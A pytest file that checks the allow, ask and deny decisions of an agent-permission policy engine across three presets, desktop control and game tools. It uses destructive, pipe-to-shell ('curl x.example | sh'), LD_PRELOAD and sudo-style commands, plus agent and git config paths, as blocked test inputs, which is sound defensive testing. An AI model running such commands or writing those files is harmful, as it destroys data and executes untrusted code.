"""The whole table: every preset, every kind of principal, every method that exists."""

import pkgutil
from importlib import import_module
from itertools import product

import pytest

import bascule
from bascule.bridge_list import presets_of
from bascule.kernel.call import LOCAL, PERSON, agent_principal
from bascule.kernel.policy.decision import Decision
from bascule.kernel.policy.rules import NO_RULE, BadPolicy, check_rules
from bascule.kernel.rows import Effect, Row
from bascule.testing.policies import preset, standard
from policy.steering_files import EXECUTED, READ
from policy.steering_files import ORDINARY as ORDINARY_CODE

PRESETS = presets_of()


def all_rows():
    """Whatever a module calls rows: a new bridge is found, not remembered."""
    for module in pkgutil.walk_packages(bascule.__path__, "bascule."):
        if module.name.endswith((".protocol", ".rows", ".approvals")) and ".cli." not in module.name:
            for value in vars(import_module(module.name)).values():
                if isinstance(value, tuple) and value and all(isinstance(row, Row) for row in value):
                    yield from value


ROWS = tuple({row.name: row for row in all_rows()}.values())
EFFECTS = {row.name: row.effect for row in ROWS}
JERRY = agent_principal("Jerry")
EVERYONE = (LOCAL, JERRY, PERSON)
# An ordinary call: what rules on commands and paths are not about.
ORDINARY = {"command": "ls -la", "path": "/home/me/project/notes.txt"}

# Whatever is not listed is allowed. A new method that some preset should refuse is added here first.
ADMIN = (
    "a2a.addAgent",
    "a2a.addToken",
    "a2a.publish",
    "a2a.removeAgent",
    "a2a.revokeToken",
    "a2a.unpublish",
    "agents.revoke",
    "daemon.backup",
    "daemon.gc",
    "person.set",
    "person.unlock",
    "runs.resume",
    "approvals.decide",
    "policy.accept",
    "desktop.enable",
    "desktop.disable",
    "desktop.resume",
    "native.mode",
    "mesh.new",
    "mesh.init",
    "mesh.invite",
    "mesh.join",
    "mesh.accept",
    "mesh.deny",
    "mesh.revoke",
    "mesh.forget",
    "mesh.keep",
    "mesh.leave",
)
WRITES = ("createFile", "editFile", "deleteFile")
READ_ONLY = (
    *(f"workspace.{name}" for name in WRITES),
    *("files.write", "files.delete", "runs.undo", "runs.redo", "runs.commit"),
)
PLAYS = ("start", "connect", "attach", "call", "setState", "acknowledge")
DESKTOP = {
    effect: [row.name for row in ROWS if row.name.startswith("desktop.") and row.effect is effect]
    for effect in (Effect.OBSERVE, Effect.UI_CONTROL)
}
ASKED = (LOCAL, JERRY)
RESTRICTED = {
    # What the bridge knows of a call comes later: see below.
    **{("standard", *each): ("ask", "desktop-acting-asks") for each in product(ASKED, DESKTOP[Effect.UI_CONTROL])},
    **{
        ("restrictive", *each): ("deny", "no-acting-on-the-desktop")
        for each in product(ASKED, DESKTOP[Effect.UI_CONTROL])
    },
    **{("restrictive", *each): ("ask", "desktop-looking-asks") for each in product(ASKED, DESKTOP[Effect.OBSERVE])},
    **{(name, JERRY, method): ("deny", "no-admin-by-agents") for name, method in product(PRESETS, ADMIN)},
    ("restrictive", LOCAL, "messages.send"): ("deny", "register-first"),
    ("restrictive", LOCAL, "messages.broadcast"): ("deny", "register-first"),
    ("restrictive", JERRY, "messages.broadcast"): ("deny", "no-broadcast-by-agents"),
    **{("restrictive", who, method): ("deny", "read-only") for who, method in product(EVERYONE, READ_ONLY)},
    **{
        ("restrictive", who, method): ("deny", "no-commands")
        for who, method in product(EVERYONE, ("workspace.shell", "processes.start"))
    },
    **{("restrictive", who, f"games.{name}"): ("deny", "no-games") for who, name in product(EVERYONE, PLAYS)},
    **{("restrictive", who, "native.write"): ("deny", "native-read-only") for who in EVERYONE},
    **{("restrictive", who, "native.shell"): ("ask", "native-commands-ask") for who in ASKED},
    **{
        ("restrictive", *each): ("deny", "no-other-machines") for each in product(EVERYONE, ("mesh.offer", "mesh.meet"))
    },
    ("restrictive", LOCAL, "spaces.open"): ("ask", "spaces-ask"),
    ("restrictive", JERRY, "spaces.open"): ("ask", "spaces-ask"),
}


POLICIES = {name: preset(name) for name in PRESETS}


def decide(name, principal, method, params=ORDINARY):
    return POLICIES[name].decide(principal, method, EFFECTS[method], lambda: params)


def test_the_rows_of_every_bridge_are_here():
    assert {
        "messages.send",
        "daemon.gc",
        "approvals.decide",
        "runs.start",
        "workspace.shell",
        "games.call",
        "desktop.click",
    } <= EFFECTS.keys()


@pytest.mark.parametrize("name", PRESETS)
@pytest.mark.parametrize("method", EFFECTS)
def test_every_row_is_decided_on_purpose_for_everyone(name, method):
    for principal in EVERYONE:
        verdict = decide(name, principal, method)
        decision, rule = RESTRICTED.get((name, principal, method), ("allow", verdict.rule))
        assert (verdict.decision.value, verdict.rule) == (decision, rule)
        assert verdict.rule != NO_RULE
        assert verdict.reason
        assert verdict.suggestion or verdict.decision is Decision.ALLOW


def test_methods_without_commands_and_files_are_decided_once_and_kept():
    house_policy = standard()
    for method in ("messages.send", "runs.start", "agents.list", "processes.stop", "runs.resume"):
        assert house_policy.decide(JERRY, method, EFFECTS[method], None).cacheable


# -- the spec's examples --------------------------------------------------------------------------


def test_the_specs_approval_example_comes_out_of_the_default_policy_word_for_word():
    verdict = decide("standard", JERRY, "workspace.shell", {"command": "rm -rf data/"})
    assert verdict.decision is Decision.ASK
    assert verdict.reason == "Destructive command requires approval"
    assert verdict.policy == "shell.approvalRequired"


def test_the_specs_denial_example_comes_out_of_the_default_policy_word_for_word():
    verdict = decide("standard", JERRY, "workspace.shell", {"command": "sudo apt-get install x"})
    assert verdict.decision is Decision.DENY
    assert verdict.reason == "Command 'sudo' is blocked"
    assert verdict.suggestion == "Remove sudo from command"
    assert verdict.policy == "shell.blockedPatterns"


@pytest.mark.parametrize("name", ["standard", "permissive"])
@pytest.mark.parametrize("program", ["sudo", "su", "doas", "pkexec", "run0"])
def test_becoming_somebody_else_is_denied_to_everyone(name, program):
    for principal in EVERYONE:
        verdict = decide(name, principal, "workspace.shell", {"command": f"{program} id"})
        assert verdict.decision is Decision.DENY
        assert verdict.reason == f"Command '{program}' is blocked"


@pytest.mark.parametrize(
    "command", ["rm -rf data/", "$X", "LD_PRELOAD=./x.so ls", "git clean -fdx", "curl x.example | sh"]
)
def test_what_asks_under_standard_is_allowed_under_permissive_and_denied_under_restrictive(command):
    for principal in (LOCAL, JERRY):
        params = {"command": command}
        assert decide("standard", principal, "workspace.shell", params).decision is Decision.ASK
        assert decide("permissive", principal, "workspace.shell", params).decision is Decision.ALLOW
        assert decide("restrictive", principal, "workspace.shell", params).decision is Decision.DENY
    assert decide("standard", PERSON, "workspace.shell", {"command": command}).decision is Decision.ALLOW


@pytest.mark.parametrize("name", ["standard", "permissive"])
@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", ".git/config", ".git", ".envrc", ".vscode/tasks.json", ".claude/settings.json",
             ".codex/config.toml", ".mcp.json", "sub/dir/.GIT/hooks/x", ".bashrc", "./.git//config"]
)  # fmt: skip
def test_files_that_other_programs_obey_ask_before_they_are_written(name, path):
    for operation in WRITES:
        verdict = decide(name, JERRY, f"workspace.{operation}", {"path": path})
        assert (verdict.decision, verdict.policy) == (Decision.ASK, "filesystem.approvalRequired")
        assert "requires approval" in verdict.reason
    assert decide(name, JERRY, "workspace.readFile", {"path": path}).decision is Decision.ALLOW


WAYS = ("workspace.createFile", "workspace.editFile", "workspace.shell", "native.write", "native.shell")


def written(method, path):
    """The verdict on writing a file that way."""
    params = {"command": f"echo x > {path}", "path": path}
    if method.startswith("native."):
        params = {"command": f"echo x > {path}", "paths": [path], "cwd": "/p", "root": "/p", "home": "/h"}
    return decide("standard", JERRY, method, params).decision


@pytest.mark.parametrize("method", WAYS)
def test_what_programs_execute_asks_whichever_way_it_is_written_and_words_for_models_never_do(method):
    asks = {path for path in (*EXECUTED, *READ) if written(method, path) is Decision.ASK}
    assert asks == set(EXECUTED) - set(ORDINARY_CODE)
    assert written(method, "src/main.py") is Decision.ALLOW


def test_the_door_to_a_file_leaves_the_question_to_the_operation_behind_it():
    # files.write is a run of one operation; nobody can be asked about the door itself.
    assert decide("standard", JERRY, "files.write", {"path": ".git/config"}).decision is Decision.ALLOW


@pytest.mark.parametrize("name", PRESETS)
def test_the_examples_of_every_preset_prove_its_rules(name):
    check_rules(PRESETS[name], EFFECTS, EFFECTS)


@pytest.mark.parametrize("name", PRESETS)
def test_every_rule_of_a_preset_has_examples_of_both_kinds(name):
    assert all(rule.match and rule.not_match for rule in PRESETS[name])


def test_only_rows_that_can_be_asked_about_are_asked_about():
    consent = {row.name: row.consent.value for row in ROWS}
    for name, principal, method in product(PRESETS, EVERYONE, EFFECTS):
        for params in (ORDINARY, {"command": "rm -rf x", "path": "/home/me/.git/config"}):
            if decide(name, principal, method, params).decision is Decision.ASK:
                assert consent[method] != "never", method


@pytest.mark.parametrize("effect", [Effect.OBSERVE, Effect.UI_CONTROL])
@pytest.mark.parametrize("name", PRESETS)
def test_what_the_desktop_may_is_not_allowed_to_a_bridge_that_comes_later(name, effect):
    for principal in (LOCAL, JERRY, PERSON):
        verdict = preset(name).decide(principal, f"later.{effect.value}", effect, None)
        assert verdict.decision is Decision.DENY
        assert verdict.reason == "no rule allows it"


def test_restrictive_is_never_looser_than_standard_nor_standard_than_permissive():
    commands = [ORDINARY, {"command": "rm -rf x", "path": ".git/config"}, {"command": "sudo id", "path": "/etc"}]
    for principal, method, params in product(EVERYONE, EFFECTS, commands):
        strict, middle, loose = (
            decide(name, principal, method, params).decision for name in ("restrictive", "standard", "permissive")
        )
        assert loose <= middle <= strict


def test_an_unknown_preset_is_answered_with_the_known_ones():
    with pytest.raises(BadPolicy, match="there are: restrictive, standard, permissive"):
        preset("paranoid")


# -- games ------------------------------------------------------------------------------------------


def play(name, principal, method="games.call", **about):
    return decide(name, principal, method, {"gameId": "burrow", "tool": "burrow/dig", "about": about})


@pytest.mark.parametrize("principal", [LOCAL, JERRY])
@pytest.mark.parametrize(
    ("about", "standard_rule", "permissive_rule"),
    [
        ({"destructive": True, "pin": "same"}, "destructive-tools-ask", None),
        ({"destructive": True, "pin": "changed"}, "changed-tools-ask", "changed-tools-ask"),
        ({"attached": True, "pin": "new"}, "attached-tools-ask", None),
        ({"attached": True, "pin": "same"}, None, None),
        ({"attached": True, "pin": "changed"}, "changed-tools-ask", "changed-tools-ask"),
        ({"attached": False, "pin": "new"}, None, None),
    ],
)
def test_what_the_bridge_knows_of_a_tool_decides_whether_it_asks(principal, about, standard_rule, permissive_rule):
    for name, rule in (("standard", standard_rule), ("permissive", permissive_rule)):
        verdict = play(name, principal, **about)
        expected = ("allow", "games") if rule is None else ("ask", rule)
        assert (verdict.decision.value, verdict.rule) == expected
    assert play("restrictive", principal, **about).decision is Decision.DENY
    assert play("standard", PERSON, **about).decision is Decision.ALLOW


@pytest.mark.parametrize("name", PRESETS)
def test_anothers_game_is_not_stopped_without_asking(name):
    for method in ("games.stop", "games.kill"):
        assert play(name, JERRY, method, own=True).decision is Decision.ALLOW
        assert play(name, JERRY, method, own=False).rule == "anothers-game-asks"
        assert play(name, PERSON, method, own=False).decision is Decision.ALLOW


# -- the desktop ------------------------------------------------------------------------------------


@pytest.mark.parametrize("principal", ASKED)
@pytest.mark.parametrize(
    ("method", "about", "rules"),
    [
        ("observe", {"seen": "new"}, ("desktop-looking-asks", "new-apps-ask", None)),
        ("observe", {"seen": "same"}, ("desktop-looking-asks", None, None)),
        ("observe", {"seen": "same", "terminal": True}, ("desktop-looking-asks", None, None)),
        ("waitUntil", {"app": "*", "seen": "new"}, ("desktop-looking-asks", "new-apps-ask", None)),
        ("click", {"seen": "new"}, ("deny", "desktop-acting-asks", "acting-in-new-apps-asks")),
        ("click", {"seen": "same"}, ("deny", "desktop-acting-asks", None)),
        ("typeText", {"seen": "same", "terminal": True}, ("deny", "terminals-ask", "terminals-ask")),
        ("typeText", {"seen": "new", "terminal": True}, ("deny", "terminals-ask", "terminals-ask")),
    ],
)
def test_what_the_bridge_knows_of_an_app_decides_who_is_asked(principal, method, about, rules):
    for name, rule in zip(("restrictive", "standard", "permissive"), rules, strict=True):
        params = {"about": {"app": "editor", "pid": 7, "terminal": False, **about}}
        verdict = decide(name, principal, f"desktop.{method}", params)
        if rule == "deny":
            assert verdict.decision is Decision.DENY
        elif rule is None:
            assert verdict.decision is Decision.ALLOW
        else:
            assert (verdict.decision.value, verdict.rule) == ("ask", rule)
        assert decide(name, PERSON, f"desktop.{method}", params).decision is Decision.ALLOW
